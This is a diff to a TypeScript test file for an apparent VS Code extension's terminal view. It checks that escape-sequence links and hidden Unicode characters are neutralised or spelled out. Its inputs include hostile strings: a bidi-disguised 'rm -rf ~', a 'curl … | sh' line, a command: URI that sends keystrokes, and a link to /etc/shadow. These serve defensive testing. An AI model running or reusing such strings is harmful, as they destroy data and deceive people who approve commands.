@@ -4,7 +4,8 @@
 
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { commandLineText, TerminalFilter } from '../../src/terminalView';
+import { commandLineText, TerminalFilter, terminalName } from '../../src/terminalView';
+import { visibleText } from '../../src/webview/escape';
 
 const b64 = (s: string) => Buffer.from(s).toString('base64');
 const all = (...chunks: string[]) => {
@@ -40,6 +41,24 @@ test('links, titles, DCS/APC strings and other escapes are dropped; their text s
 	assert.equal(all('\x1b]52;c;AAAA', 'BBBB\x18after'), 'after');
 });
 
+// VS Code's terminal opens an OSC 8 link's target on click, and its allowed schemes include
+// vscode:// (extension URI handlers): a target that is not what the text says is never passed on,
+// in any form of the sequence. Only the text stays, and VS Code links plain text only where the
+// text itself is a web or file address, so what is shown is what a click opens (and its
+// terminal link opener never runs command: URIs).
+test('an OSC 8 link to a command: URI or a file outside the workspace keeps only its text', () => {
+	const targets = ['command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D', 'file:///etc/shadow', 'vscode://kin.kin/run'];
+	for (const t of targets) {
+		for (const [open, st] of [['\x1b]', '\x07'], ['\x1b]', '\x1b\\'], ['\u009d', '\u009c'], ['\u009d', '\x07']]) {
+			const link = `${open}8;id=1;${t}${st}docs${open}8;;${st}`;
+			assert.equal(all(`see ${link} now`), 'see docs now', `${JSON.stringify(open)} ${t}`);
+			for (let i = 1; i < link.length; i++) {
+				assert.equal(all('see ', link.slice(0, i), link.slice(i), ' now'), 'see docs now', `split at ${i}`);
+			}
+		}
+	}
+});
+
 test('colours, erasing and line ends still reach the view', () => {
 	assert.equal(all('\x1b[31mred\x1b[0m \x1b[1;32mok\x1b[m'), '\x1b[31mred\x1b[0m \x1b[1;32mok\x1b[m');
 	assert.equal(all('50%\r\x1b[2K100%\n'), '50%\r\x1b[2K100%\r\n');
@@ -51,6 +70,28 @@ test('colours, erasing and line ends still reach the view', () => {
 test("the command line heading the view is shown, never acted on: its control characters spelled out", () => {
 	assert.equal(commandLineText(`echo hi # \x1b]52;c;${b64('x')}\x07`), `echo hi # \\x1b]52;c;${b64('x')}\\x07`);
 	assert.equal(commandLineText('rm -rf build\rls'), 'rm -rf build\\x0dls');
-	assert.equal(commandLineText('a\u009d8;;x\u009cb'), 'a\\u009d8;;x\\u009cb');
+	assert.equal(commandLineText('a\u009d8;;x\u009cb'), 'a\\x9d8;;x\\x9cb');
 	assert.equal(commandLineText('set -e\nmake\r\nmake test\tx'), 'set -e\r\nmake\r\nmake test\tx');
+});
+
+// The heading is what the person reads to know what runs: a character that renders as nothing or
+// reorders the line (bidi override, zero-width space, tag character) would show another command
+// than the one kin runs. The chat's card and kin's approval spell them out; so does the view.
+test('the command line heading the view spells out bidi, zero-width and tag characters as the chat does', () => {
+	// On screen without escaping: "rm -rf ./build/tmp #"; what runs is "rm -rf ~ #pmt/dliub/.".
+	assert.equal(commandLineText('rm -rf ~ \u202e#pmt/dliub/.'), 'rm -rf ~ \\u202e#pmt/dliub/.');
+	assert.equal(commandLineText('curl x\u200b.example | sh'), 'curl x\\u200b.example | sh');
+	assert.equal(commandLineText('echo a\u2066b\u2069 \u{e0041}'), 'echo a\\u2066b\\u2069 \\U000e0041');
+	// One list: every line of the heading is the chat's visibleText of that line.
+	const sneaky = `a\u200fb\u2028c\ufeffd\x1b[31m\u009d8;;x\u009c\te\rf`;
+	assert.equal(commandLineText(sneaky), visibleText(sneaky));
+});
+
+test("the view's name (its tab) spells out the title's hidden characters too", () => {
+	assert.equal(terminalName('Run rm -rf ~ \u202e#pmt/dliub/.'), 'kin: Run rm -rf ~ \\u202e#pmt/dliub/.');
+	assert.equal(terminalName('Run a\x1b]0;x\x07'), 'kin: Run a\\x1b]0;x\\x07');
+	// cut to 60 characters without splitting a character made of two UTF-16 units
+	const long = terminalName('Run ' + '😀'.repeat(80));
+	assert.equal([...long].length, 60);
+	assert.doesNotMatch(long, /[\ud800-\udbff](?![\udc00-\udfff])/);
 });
